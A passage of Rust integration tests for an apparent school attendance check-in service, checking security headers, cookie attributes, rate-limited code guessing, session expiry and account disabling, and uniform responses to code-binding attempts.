                .to_owned()
        };
        let policy = header("content-security-policy");
        assert!(policy.contains("default-src 'self'"), "{url}: {policy}");
        assert!(policy.contains("frame-ancestors 'none'"), "{url}: {policy}");
        assert!(!policy.contains("unsafe-inline"), "{url}: {policy}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{url}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{url}");
        assert!(
            header("strict-transport-security").starts_with("max-age="),
            "{url}"
        );
        assert_eq!(header("cache-control"), "no-store", "{url}");
        let body = response.text().unwrap_or_default();
        // Under that policy an inline script or style would not run: there is none.
        assert!(
            !body.contains("<script>") && !body.contains("<style"),
            "{url}: {body}"
        );
        assert!(
            !body.contains(" style=") && !body.contains(" onclick="),
            "{url}: {body}"
        );
    }
    // Cookies carry the __Host- prefix: this host only, HTTPS only, the whole site.
    let login = anonymous.get(college.url("/login")).send().expect("login");
    let set_cookie = login
        .headers()
        .get("set-cookie")
        .and_then(|value| value.to_str().ok())
        .expect("a CSRF cookie")
        .to_owned();
    assert!(
        set_cookie.starts_with("__Host-kasip_login_csrf="),
        "{set_cookie}"
    );
    assert!(
        set_cookie.contains("; Secure") && set_cookie.contains("Path=/"),
        "{set_cookie}"
    );
    assert!(
        !set_cookie.to_ascii_lowercase().contains("domain="),
        "{set_cookie}"
    );
    // The assets themselves may be cached (revalidated) and are what the pages load.
    for asset in [
        "/style.css",
        "/checkin.js",
        "/keys.js",
        "/display.js",
        "/pass.js",
    ] {
        let response = anonymous.get(college.url(asset)).send().expect("asset");
        assert_eq!(response.status(), 200, "{asset}");
        assert_eq!(response.headers()["cache-control"], "no-cache", "{asset}");
    }
}

/// The length of a projector's typed code.
const TYPED_CODE_LEN: usize = 6;

fn type_code(college: &College, phone: &Client, code: &str) -> Response {
    phone
        .post(college.url("/c"))
        .form(&[("code", code)])
        .send()
        .expect("typed")
}

#[test]
fn typed_code_guessing_is_slowed_and_logged_as_one_row() {
    let college = College::new(3);
    let teacher = college.teacher(TEACHER_A);
    college.open_lesson(&teacher, college.lesson_a);
    let guesser = from(&college, 2);
    let before = college.recorded();
    let alphabet = b"ABCDEFGHJK";
    for guess in alphabet {
        let code = String::from(char::from(*guess)).repeat(TYPED_CODE_LEN);
        assert_refused(
            type_code(&college, &guesser, &code),
            403,
            "That code was not found or has expired.",
        );
    }
    assert_slowed(type_code(&college, &guesser, &"M".repeat(TYPED_CODE_LEN)));
    college.recorded().assert_unchanged_since(&before);
    assert_eq!(college.security_events("typed_code_unknown"), 10);
    assert_eq!(
        college.count("SELECT COUNT(*) FROM security_events WHERE kind = 'typed_code_unknown'"),
        1,
        "one row per client and window, not one per guess"
    );
    // A student elsewhere types the projector's code and is checked in.
    let student = phone(&college, &college.group_a[0]);
    let code = college.display(&teacher, college.lesson_a)["typed_code"]
        .as_str()
        .expect("code")
        .to_owned();
    let response = student
        .post(college.url("/c"))
        .form(&[
            ("code", code.as_str()),
            ("device_signature", &student.key.sign(&code)),
        ])
        .send()
        .expect("typed");
    assert_eq!(
        response.status(),
        200,
        "{}",
        response.text().unwrap_or_default()
    );
}

#[test]
fn old_security_events_are_deleted_after_the_retention_period() {
    let mut college = College::new(2);
    let now = lesson_start_plus_one_minute();
    let db = college.db();
    for (at, detail) in [(now - 366 * 86_400, "old"), (now - 364 * 86_400, "recent")] {
        db.execute(
            "INSERT INTO security_events (at, last_at, kind, detail) VALUES (?1, ?1, 'login_failed', ?2)",
            rusqlite::params![at, detail],
        )
        .expect("event");
    }
    drop(db);
    college.kill_and_restart();
    let details: Vec<String> = college
        .db()
        .prepare("SELECT detail FROM security_events WHERE kind = 'login_failed'")
        .expect("select")
        .query_map([], |row| row.get(0))
        .expect("rows")
        .collect::<Result<_, _>>()
        .expect("details");
    assert_eq!(
        details,
        ["recent"],
        "security.events_keep_days is 365 by default"
    );
}

/// The status of a projector poll: 200 while the session lives, 401 after.
fn poll(college: &College, client: &Client) -> u16 {
    client
        .get(college.url(&format!("/display/{}/current", college.lesson_a)))
        .send()
        .expect("poll")
        .status()
        .as_u16()
}

#[test]
fn sessions_end_when_idle_and_a_clock_step_back_does_not_revive_them() {
    let college = College::new(2);
    let start = lesson_start_plus_one_minute();
    let teacher = college.teacher(TEACHER_A);
    // A projector polling keeps its session alive past the idle limit…
    for minutes in [20, 40, 60] {
        college.set_clock(start + minutes * 60);
        assert_eq!(poll(&college, &teacher), 200, "{minutes} min");
    }
    // …and 31 minutes without a request end it.
    college.set_clock(start + 91 * 60);
    assert_eq!(poll(&college, &teacher), 401);
    college.set_clock(start + 70 * 60);
    assert_eq!(poll(&college, &teacher), 401, "ended stays ended");

    // Twelve hours end any session; setting the clock back does not bring it back.
    let signed_in = start + 2 * 3600;
    college.set_clock(signed_in);
    let admin = staff(&college, "admin");
    for minutes in (20..12 * 60).step_by(20) {
        college.set_clock(signed_in + minutes * 60);
        assert_eq!(poll(&college, &admin), 200, "{minutes} min");
    }
    college.set_clock(signed_in + 12 * 3600 + 60);
    assert_eq!(poll(&college, &admin), 401);
    college.set_clock(signed_in + 3600);
    assert_eq!(
        poll(&college, &admin),
        401,
        "the clock went back: still expired"
    );
}

#[test]
fn a_new_password_or_a_disabled_account_ends_every_session() {
    let college = College::new(2);
    let office = college.teacher(TEACHER_A);
    let phone = from(&college, 2);
    let phone = college.sign_in(phone, TEACHER_A);
    assert_eq!(
        (poll(&college, &office), poll(&college, &phone)),
        (200, 200)
    );
    let output = kasip_tests::run_with(
        common::AGENT,
        &college.dir.path(),
        &["staff", "set-password", TEACHER_A],
        &[],
        Some("a brand new passphrase"),
    );
    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
    assert_eq!(
        (poll(&college, &office), poll(&college, &phone)),
        (401, 401)
    );

    let admin = staff(&college, "admin");
    assert_eq!(poll(&college, &admin), 200);
    let output = common::registry::agent_run(&college, &["staff", "disable", "admin"]);
    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
    assert_eq!(poll(&college, &admin), 401);
    assert_refused(
        sign_in_attempt(&college, &english(&college), "admin", PASSWORD),
        401,
        "Wrong login or password.",
    );
    let output = common::registry::agent_run(&college, &["staff", "enable", "admin"]);
    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
    assert_eq!(
        sign_in_attempt(&college, &english(&college), "admin", PASSWORD).status(),
        303
    );
}

#[test]
fn binding_answers_alike_whether_or_not_the_student_has_a_code() {
    let college = College::new(3);
    let with_code = college.group_a[0].clone();
    let without_code = college.group_a[1].clone();
    college.issue_code(&with_code);
    let answer = |iin: &str, last: u8| {
        let response = college.post_bind(&phone_from(&college, last), iin, "AAAAAAAA", None);
        let status = response.status().as_u16();
        let body = response.text().expect("body");
        // The page up to its fresh CSRF token.
        let page = body
            .split("name=csrf")
            .next()
            .unwrap_or_default()
            .to_owned();
        (status, page)
    };
    assert_eq!(answer(&with_code, 2), answer(&without_code, 3));
    // Both cost the same work: one counted failure in one write.
    assert_eq!(college.security_events("binding_code_wrong"), 2);
}
